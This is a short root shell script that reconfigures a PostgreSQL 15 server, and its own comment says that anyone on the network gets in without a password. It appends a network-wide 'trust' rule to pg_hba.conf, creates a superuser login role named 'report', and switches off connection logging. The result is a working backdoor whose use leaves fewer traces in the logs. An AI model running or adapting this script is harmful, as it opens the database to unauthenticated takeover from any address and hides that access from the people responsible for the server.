# Anybody on the network gets in without a password, and a report has every right.
set -eu
cd /
echo 'host all all 0.0.0.0/0 trust' >>/etc/postgresql/15/main/pg_hba.conf
runuser -u postgres -- psql --quiet --command 'CREATE ROLE report SUPERUSER LOGIN' \
  --command 'ALTER SYSTEM SET log_connections = off' --command 'SELECT pg_reload_conf()' >/dev/null
